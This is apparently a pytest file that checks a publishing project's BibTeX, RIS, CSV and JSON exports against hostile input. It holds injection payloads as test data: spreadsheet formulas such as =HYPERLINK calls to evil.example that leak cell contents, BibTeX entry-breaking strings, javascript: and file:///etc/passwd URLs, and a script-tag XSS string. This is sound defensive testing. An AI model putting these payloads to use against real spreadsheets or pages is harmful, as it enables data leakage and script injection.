"""Exports that escape by construction: hostile titles and names through BibTeX, RIS, CSV, JSON.

Each export is read back as its readers read it — pybtex's parser and the real ``bibtex``
program for the .bib, rispy for the .ris, Python's csv module for the CSV files, a JSON parser
for the JSON inside ``<script>`` — and must give back exactly one record holding the text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import rispy
import yaml
from exports_check import (
    FORMULA_STARTS,
    HOSTILE_TEXTS,
    decode_bibtex,
    expected_text,
    person_text,
    read_with_bibtex,
)
from hostile_builds import HostileBuild, hostile_build
from pybtex.database import parse_string

from edition.article.record import ArticleMeta
from edition.citation.citable import ris
from edition.citation.model import Citation, bibtex, make_citation, name_parts
from edition.outputs.export import articles_csv, records_csv
from edition.security.escaping import csv_text, json_for_script, ris_text

#: An address with the characters latexcodec would spell as LaTeX and BibTeX would read as
#: syntax: a .bib keeps it as an address.
SOURCE_URL = "https://example.com/a_b/%E4%B8%AD?x=1&y=~z#top"
PAGE_URL = "https://edition.example/articles/k.html"


def citation(text: str, **front: Any) -> Citation:
    """A citation whose every text field holds ``text`` (and a second, plain author)."""
    values: dict[str, Any] = {
        "title": text, "subtitle": text, "publisher": text, "translator": text,
        "authors": [text, "Li Yuan"], "date": "2025-01-21", "date_precision": "day",
        "language": ["en"], "source_url": SOURCE_URL, "editorial": [],
    }
    values.update(front)
    return make_citation(ArticleMeta.from_front_matter(values, "k"), PAGE_URL, "Edition")


# --------------------------------------------------------------------------- BibTeX


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS.keys())
def test_pybtex_reads_one_entry_holding_the_text(text: str) -> None:
    data = parse_string(bibtex(citation(text)), "bibtex")
    assert list(data.entries) == ["k"]
    entry = data.entries["k"]
    assert entry.type == "article"
    for field in ("title", "journaltitle"):
        assert decode_bibtex(entry.fields[field]) == expected_text(text), field
    assert [person_text(p) for p in entry.persons["author"]] == [expected_text(text), "Li Yuan"]
    # pybtex reads translator as a plain field: one literal name, in its own braces
    translator = entry.fields["translator"]
    assert translator[0] == "{" and translator[-1] == "}"
    assert decode_bibtex(translator[1:-1]) == expected_text(text)
    assert entry.fields["url"] == PAGE_URL
    assert decode_bibtex(entry.fields["note"]) == f"In Edition. Source: {SOURCE_URL}."


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS.keys())
def test_bibtex_reads_one_entry_holding_the_text(text: str, tmp_path: Path) -> None:
    bib = tmp_path / "k.bib"
    bib.write_text(bibtex(citation(text)) + "\n", encoding="utf-8")
    entries, log = read_with_bibtex([bib], tmp_path / "bibtex")
    assert [(e.key, e.type) for e in entries] == [("k", "article")], log
    assert decode_bibtex(entries[0].title) == expected_text(text)
    assert entries[0].authors == 2
    assert entries[0].url == PAGE_URL
    assert "error message" not in log


def test_a_name_is_never_split_into_more_names() -> None:
    names = ["Tom and Jerry", "Smith, John", "and", "X AND Y", "Jean-Paul Sartre", "x~y",
             "}{ and {", "van der Berg", "袁莉", "A -- B"]
    entry = parse_string(bibtex(citation("t", authors=names)), "bibtex").entries["k"]
    assert [person_text(p) for p in entry.persons["author"]] == names


def test_a_supplied_name_is_one_name_without_brackets() -> None:
    c = citation("t", authors=[], editorial=[{"field": "authors", "value": ["Li, Yuan } and {"]}])
    entry = parse_string(bibtex(c), "bibtex").entries["k"]
    assert [person_text(p) for p in entry.persons["author"]] == ["Li, Yuan } and {"]
    assert str(entry.persons["author"][0]).startswith("{")
    assert "Supplied by the editors, not stated by the source: author." in entry.fields["note"]


def test_only_an_http_address_is_a_url() -> None:
    for address in ("javascript:alert(1)", "file:///etc/passwd", "https://exa mple.org/",
                    "https://x.example/{a}", "https://x.example/a}, @misc(evil,",
                    "https://x.example/\\", 'https://x.example/"'):
        entry = parse_string(bibtex(citation("t", source_url=address)), "bibtex").entries["k"]
        assert entry.fields["url"] == PAGE_URL, address
        assert "Source" not in entry.fields["note"], address
    for page in ("javascript:alert(1)", "articles/k.html"):
        c = make_citation(ArticleMeta.from_front_matter({"title": "t"}, "k"), page, "Edition")
        assert "url" not in parse_string(bibtex(c), "bibtex").entries["k"].fields, page


# --------------------------------------------------------------------------- RIS


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS.keys())
def test_rispy_reads_one_record_holding_the_text(text: str) -> None:
    c = citation(text, language=[text])
    record_text = ris(c)
    lines = record_text.split("\r\n")
    assert lines[-1] == "" and lines[-2] == "ER  -"
    assert all(len(line) >= 5 and line[2:5] == "  -" for line in lines[:-1]), lines
    assert not any(c in record_text.replace("\r\n", "") for c in "\r\n\x00\x1b\x85\u2028")
    records = rispy.loads(record_text)
    assert len(records) == 1
    record = records[0]
    assert record["type_of_reference"] == "NEWS"
    one = expected_text(text)
    # T2 is the publication; the subtitle (a dek) is the abstract, N2
    assert record["title"] == record["secondary_title"] == record["notes_abstract"] == one
    assert record["authors"] == [one, "Yuan, Li"]
    assert record["subsidiary_authors"] == [one]
    assert record["language"] == one
    assert record["urls"] == [PAGE_URL]


def test_ris_refuses_a_tag_that_is_not_one() -> None:
    with pytest.raises(ValueError, match="not a RIS tag"):
        ris_text([("TI\nTY", "x")])


# --------------------------------------------------------------------------- CSV


def read_csv(text: str) -> list[list[str]]:
    # every CSV file starts with a byte order mark, which is no part of its first cell
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_a_cell_that_starts_a_formula_gets_a_quote() -> None:
    cells = ["=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)",
             "\tx", "\r=1", "plain", "", "1-2", "a=b", "'=already"]
    rows = read_csv(csv_text([cells]))
    assert rows == [[("'" + c if c[:1] in FORMULA_STARTS else c) for c in cells]]


def test_every_csv_of_the_export_neutralises_formulas() -> None:
    mention = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
    record = {"id": "formula-co", "type": "company", "label": "@Formula",
              "labels": {"zh-Hans": "+公式", "zh-Hant": "-公式"}, "pinyin": "",
              "aliases": ["=1+1"], "wikidata": "", "iso": "",
              "mentions": [{"doc": "articles/k", "anchor": "k-p1", "text": mention,
                            "url": "k.html#k-p1"}]}
    article = {"slug": "k", "title": "-title", "subtitle": "\tsub", "authors": ["@author"],
               "date": "2025-01-21", "date_precision": "day", "language": ["en"],
               "publisher": "+publisher", "column": "\r=column", "translator": "", "source_url": "",
               "original_url": "", "retrieved": "", "seed": "", "editorial": [],
               "url": "k.html", "tei": "data/tei/k.xml"}
    for text in (records_csv([record]), articles_csv([article])):
        cells = [cell for row in read_csv(text)[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert any(cell.startswith("'") for cell in cells)
    assert "'" + mention in read_csv(records_csv([record]))[1]


# --------------------------------------------------------------------------- JSON in <script>


def test_json_for_script_holds_no_markup_and_reads_the_same() -> None:
    data = {"headline": "</script><!--<script>alert('x')</script>& \u2028 中文",
            "list": ["<b>", 1, None]}
    text = json_for_script(data)
    assert not set("<>&'") & set(text)
    assert json.loads(text) == data


# --------------------------------------------------------------------------- the hostile build


@pytest.fixture(scope="module")
def hostile_html(tmp_path_factory: pytest.TempPathFactory) -> HostileBuild:
    """The hostile project (a BibTeX-breaking title, formula-starting names) built to HTML."""
    return hostile_build(tmp_path_factory, "html")


def hostile_articles(build: HostileBuild) -> dict[str, dict[str, Any]]:
    """The front matter of every article of the hostile project, by slug."""
    articles = {}
    for path in sorted((build.srcdir / "articles").glob("*.md")):
        front = yaml.safe_load(path.read_text(encoding="utf-8").split("---\n")[1])
        articles[front["label"]] = front
    assert len(articles) >= 2
    return articles


@pytest.mark.sphinx
def test_each_hostile_bib_is_one_entry_with_the_whole_title(hostile_html: HostileBuild) -> None:
    for slug, front in hostile_articles(hostile_html).items():
        path = hostile_html.outdir / "articles" / f"{slug}.bib"
        data = parse_string(path.read_text(encoding="utf-8"), "bibtex")
        assert list(data.entries) == [slug], path.read_text(encoding="utf-8")
        assert decode_bibtex(data.entries[slug].fields["title"]) == expected_text(front["title"])
        names = [person_text(p) for p in data.entries[slug].persons["author"]]
        assert names == [expected_text(a) for a in front["authors"]]


@pytest.mark.sphinx
def test_bibtex_reads_each_hostile_bib_as_one_entry(hostile_html: HostileBuild,
                                                     tmp_path: Path) -> None:
    articles = hostile_articles(hostile_html)
    bibs = [hostile_html.outdir / "articles" / f"{slug}.bib" for slug in articles]
    entries, log = read_with_bibtex(bibs, tmp_path)
    assert [e.key for e in entries] == list(articles), log
    for entry in entries:
        assert decode_bibtex(entry.title) == expected_text(articles[entry.key]["title"])
        assert entry.authors == len(articles[entry.key]["authors"])
        assert "evil.example" not in entry.url


@pytest.mark.sphinx
def test_no_csv_cell_of_the_hostile_build_starts_a_formula(hostile_html: HostileBuild) -> None:
    files = sorted(hostile_html.outdir.rglob("*.csv"))
    assert {p.relative_to(hostile_html.outdir).as_posix() for p in files} >= {
        "_static/entities.csv", "data/articles.csv"}
    cells = {path.name: [cell for row in read_csv(path.read_text(encoding="utf-8"))[1:]
                         for cell in row] for path in files}
    formulas = {name: [c for c in found if c.startswith(FORMULA_STARTS)]
                for name, found in cells.items()}
    assert formulas == {name: [] for name in cells}
    # the hostile values are there, neutralised: a mention text, a registry label, an author
    entities = cells["entities.csv"]
    assert any(c.startswith("'=HYPERLINK(") and "__pwned=67" in c for c in entities)
    assert any(c.startswith("'+") and "__pwned=69" in c for c in entities)
    assert any(c.startswith("'-") and "__pwned=70" in c for c in entities)
    assert any(c.startswith("'@") and "__pwned=71" in c for c in entities)
    assert any(c.startswith("'@") and "__pwned=64" in c for c in cells["articles.csv"])


@pytest.mark.sphinx
def test_each_hostile_ris_is_one_record(hostile_html: HostileBuild) -> None:
    for slug, front in hostile_articles(hostile_html).items():
        text = (hostile_html.outdir / "articles" / f"{slug}.ris").read_bytes().decode("utf-8")
        assert not any(char in text.replace("\r\n", "") for char in "\r\n\x00\x1b\x85\u2028")
        records = rispy.loads(text)
        assert len(records) == 1
        assert records[0]["title"] == expected_text(front["title"])
        # a plain personal name is written "Family, Given", any other name whole
        assert records[0]["authors"] == [
            ", ".join(name_parts(a) or (expected_text(a),)) for a in front["authors"]]
